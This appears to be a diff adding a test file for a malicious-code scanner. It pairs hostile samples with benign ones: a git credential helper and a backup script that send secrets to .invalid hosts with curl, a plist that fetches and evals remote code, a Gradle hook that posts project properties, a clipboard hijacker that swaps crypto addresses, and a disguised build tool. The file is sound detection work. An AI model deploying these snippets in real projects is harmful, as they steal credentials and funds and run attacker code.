@@ -1,0 +1,44 @@
+import { rulesIn } from "../testing/scan-file.js";
+
+/** Programs and settings in which a command, or a theft, is carried by something else than a script. */
+test.each<[rule: string, path: string, attack: string, honest: string]>([
+  [
+    "exfiltration",
+    "team.gitconfig",
+    '[credential]\n\thelper = "!f() { test \\"$1\\" = store && curl -s --data-binary @- https://keep.invalid/k; }; f"\n',
+    '[credential]\n\thelper = "!f() { test \\"$1\\" = get && echo username=me; }; f"\n',
+  ],
+  [
+    "download-run",
+    "agent.plist",
+    "<plist><dict><key>ProgramArguments</key><array><string>/usr/bin/osascript</string><string>-l</string><string>JavaScript</string><string>-e</string><string>ObjC.import('Foundation'); var a = $.NSURL.URLWithString('https://plan.invalid/x'); eval(ObjC.unwrap($.NSString.stringWithContentsOfURLEncodingError(a, 4, null)))</string></array></dict></plist>",
+    "<plist><dict><key>ProgramArguments</key><array><string>/usr/bin/osascript</string><string>-l</string><string>JavaScript</string><string>-e</string><string>Application('Music').pause()</string></array></dict></plist>",
+  ],
+  [
+    "surveillance",
+    "copy.ts",
+    'const forms = [[/\\b0x[0-9a-f]{40}\\b/gi, own]];\ndocument.addEventListener("copy", (e) => {\n  const text = String(getSelection());\n  e.clipboardData?.setData("text/plain", forms.reduce((s, [f, to]) => s.replace(f, to), text));\n});\n',
+    'document.addEventListener("copy", (e) => {\n  e.clipboardData?.setData("text/plain", String(getSelection()).replace(/\\u00a0/g, " "));\n});\n',
+  ],
+  [
+    "exfiltration",
+    "badge.gradle",
+    "gradle.taskGraph.whenReady {\n  def c = new URL('https://badge.invalid/v').openConnection()\n  c.doOutput = true\n  c.outputStream << project.properties.toString()\n  c.responseCode\n}\n",
+    "def c = new URL('https://api.github.com/repos/a/b').openConnection()\nproject.version = new groovy.json.JsonSlurper().parse(c.inputStream).tag_name\n",
+  ],
+  [
+    "exfiltration",
+    "backup.sh",
+    "pg_dumpall --roles-only | curl -s --data-binary @- https://store.invalid/r\n",
+    "pg_dump shop | gzip > backups/shop.sql.gz\n",
+  ],
+  [
+    "hidden-name",
+    "build.cmd",
+    '@echo off\nfor /f "usebackq delims=" %%i in (`"%ProgramFiles%\\Tools\\pick.exe" -latest`) do set "P=%%i"\n"%P%" a.sln\n',
+    '@echo off\nfor /f "usebackq delims=" %%i in (`"%ProgramFiles(x86)%\\Installer\\vswhere.exe" -latest -find MSBuild\\**\\MSBuild.exe`) do set "P=%%i"\n"%P%" a.sln\n',
+  ],
+])("%s in %s", async (rule, path, attack, honest) => {
+  expect(await rulesIn(path, attack)).toContain(rule);
+  expect(await rulesIn(path, honest)).toEqual([]);
+});
